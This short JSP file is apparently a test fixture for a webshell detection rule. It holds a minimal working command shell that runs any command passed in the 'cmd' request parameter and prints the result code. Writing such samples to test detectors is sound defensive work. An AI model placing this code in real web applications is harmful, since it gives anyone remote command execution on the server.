<%-- Test fixture for Jsp_Webshell_CmdExec_1: the shape of a JSP command shell. Never deployed. --%>
<%@ page import="java.io.*" %>
<%
    if (request.getParameter("cmd") != null) {
        Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
        out.println("<pre>" + p.waitFor() + "</pre>");
    }
%>
